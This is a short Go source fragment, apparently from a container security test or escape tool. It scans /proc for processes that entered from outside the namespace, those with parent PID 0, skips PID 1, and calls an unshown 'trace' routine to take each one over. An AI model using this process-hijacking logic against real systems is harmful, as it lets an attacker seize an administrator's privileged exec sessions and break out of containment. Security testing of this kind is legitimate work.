package main

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
)

// connectors looks for processes that came from outside, other than the first, and tries to take over each at once, until it has
// tried a number of them. It prints how many.
func connectors(args []string) error {
	most, err := number(args, 0)
	if err != nil {
		return err
	}
	tried := map[int]bool{}
	for len(tried) < most {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == 1 || tried[pid] {
				continue
			}
			stat, err := os.ReadFile("/proc/" + e.Name() + "/stat")
			if err != nil {
				continue
			}
			fields := bytes.Fields(stat[bytes.LastIndexByte(stat, ')')+1:])
			if len(fields) < 2 || string(fields[1]) != "0" {
				continue
			}
			tried[pid] = true
			if err := trace([]string{e.Name()}); err == nil {
				fmt.Println("taken over", pid)
			}
			fmt.Println("tried", len(tried))
		}
	}
	return nil
}
